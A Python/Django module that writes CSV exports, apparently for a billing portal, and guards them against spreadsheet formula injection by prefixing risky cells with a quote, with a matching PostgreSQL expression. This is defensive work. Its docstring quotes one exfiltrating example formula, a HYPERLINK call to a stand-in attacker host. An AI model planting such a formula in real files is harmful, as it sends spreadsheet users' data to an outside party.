"""The one CSV writer of every export: streamed, UTF-8 with a BOM (so spreadsheets read it), and
safe to open in a spreadsheet.

Formula injection (OWASP "CSV Injection"): a spreadsheet runs a cell that starts with `=`, `+`,
`-` or `@` as a formula (and tab or CR are read as the start of one), so a CDR id such as
`=HYPERLINK("https://evil.example/?"&A1)` would leak data or run commands on the bookkeeper's
machine. Rule, cell by cell:

* numbers (`int`, `Decimal`; never `bool`) are written as numbers, so `-12.50` stays a
  negative amount a spreadsheet can sum;
* every other cell is text: when it starts with one of `= + - @ TAB CR LF`, a single quote is put
  in front (`'=HYPERLINK(...)`, `'-5`), which spreadsheets show as the text typed, and which a
  reader of the file can strip to get the value back. So is text whose first character after
  leading spaces (which an import may trim: LibreOffice's "Trim spaces", Google Sheets) is one of
  them, or folds onto one in NFKC (fullwidth `＝`, `＋`, `－`, `＠`, small `﹦`, which East Asian
  input methods type and some spreadsheets read as the ASCII sign).
"""
import csv as _csv
import io
import tempfile
import unicodedata
from decimal import Decimal

from django.http import FileResponse, StreamingHttpResponse

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def cell(value) -> object:
    """A value as it is written to the file: numbers as they are, text escaped."""
    if value is None:
        return ""
    if isinstance(value, (int, Decimal)) and not isinstance(value, bool):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) or _formula_after_folding(text):
        return "'" + text
    return text


def _formula_after_folding(text: str) -> bool:
    first = text[:1]
    if first.isascii() and not first.isspace():  # nearly every cell: one check
        return False
    head = text.lstrip()[:1]
    return bool(head) and unicodedata.normalize("NFKC", head).startswith(FORMULA_STARTS)


class _Echo:
    def write(self, value):
        return value


def rows_to_lines(header, rows):
    """The lines of a CSV file (header first, with the BOM), produced one by one."""
    writer = _csv.writer(_Echo())
    yield "\ufeff" + writer.writerow([cell(v) for v in header])
    for row in rows:
        yield writer.writerow([cell(v) for v in row])


def streaming_response(filename: str, header, rows) -> StreamingHttpResponse:
    """A streamed CSV download: rows are produced while the client reads (no list in memory)."""
    response = StreamingHttpResponse(rows_to_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


# Characters a cell may start with and be written as it is (cell() would leave it unchanged):
# printable ASCII other than the formula signs and the space. Checked first, so the escaping
# costs one set look-up for nearly every cell of a large export.
_SAFE_FIRST = frozenset(chr(c) for c in range(0x21, 0x7F)) - set("=+-@")
BATCH_ROWS = 2000


def write(out, header, rows, *, text_columns=None, progress=None, every=10_000) -> int:
    """Write a CSV file (BOM, header, rows) to the text stream `out`; return the number of rows.

    `text_columns`: the indexes of the columns that may hold text; the others must hold numbers,
    None or text that cannot start a formula (dates, ids, enumeration values), and are written as
    they are. Without it every cell goes through cell(). Rows are written in batches (one write
    per BATCH_ROWS rows, not one per row); `progress(rows_so_far)` is called every `every` rows."""
    writer = _csv.writer(out)
    out.write("\ufeff")
    writer.writerow([cell(v) for v in header])
    count = 0
    batch = []
    next_progress = every
    for row in rows:
        if text_columns is None:
            row = [cell(v) for v in row]
        else:
            for i in text_columns:
                value = row[i]
                if value and (type(value) is not str or value[0] not in _SAFE_FIRST):
                    if not isinstance(row, list):
                        row = list(row)
                    row[i] = cell(value)
        batch.append(row)
        if len(batch) == BATCH_ROWS:
            writer.writerows(batch)
            count += len(batch)
            batch.clear()
            if progress is not None and count >= next_progress:
                progress(count)
                next_progress = count + every
    writer.writerows(batch)
    count += len(batch)
    if progress is not None:
        progress(count)
    return count


def to_file(header, rows, **options):
    """Write the CSV file into a temporary file on disk (memory stays flat); return it, read from
    its start, with the number of rows."""
    binary = tempfile.TemporaryFile()
    text = io.TextIOWrapper(binary, encoding="utf-8", newline="")
    try:
        count = write(text, header, rows, **options)
        text.flush()
    except BaseException:
        text.detach()
        binary.close()
        raise
    text.detach()
    binary.seek(0)
    return binary, count


def file_response(fileobj, filename: str):
    """A finished CSV file as a download, with its length (a client can tell a cut-off file)."""
    return FileResponse(fileobj, as_attachment=True, filename=filename, content_type="text/csv; charset=utf-8")


def header_line(header) -> bytes:
    """The first bytes of a file whose rows PostgreSQL writes (COPY … CSV, lines ending in LF):
    the BOM and the header."""
    out = io.StringIO()
    _csv.writer(out, lineterminator="\n").writerow([cell(v) for v in header])
    return ("\ufeff" + out.getvalue()).encode()


# What str.lstrip() strips (str.isspace(); tests/portal/test_csv_exports.py checks the list).
WHITESPACE = ("\t\n\x0b\x0c\r\x1c\x1d\x1e\x1f \x85\xa0\u1680\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007"
              "\u2008\u2009\u200a\u2028\u2029\u202f\u205f\u3000")


def _pg_chars(chars: str) -> str:
    return "".join(f"\\u{ord(c):04x}" for c in chars)


def cell_sql(column: str) -> str:
    """cell() for a text column as a PostgreSQL expression, for exports that PostgreSQL writes
    itself (COPY … TO STDOUT WITH (FORMAT csv)): the same rule from the same constants, a quote put
    in front of a cell that starts with a formula sign, directly or after leading whitespace or
    NFKC folding of its first character; an empty text as no value. Checked against cell() for
    every Unicode character (tests/portal/test_csv_exports.py)."""
    starts, space = _pg_chars("".join(FORMULA_STARTS)), _pg_chars(WHITESPACE)
    return (f"CASE WHEN {column} ~ '^[{starts}]' OR ({column} ~ '^[^\\u0021-\\u007e]' AND "
            f"normalize(left(regexp_replace({column}, '^[{space}]+', ''), 1), NFKC) ~ '^[{starts}]') "
            f"THEN '''' || {column} ELSE NULLIF({column}, '') END")
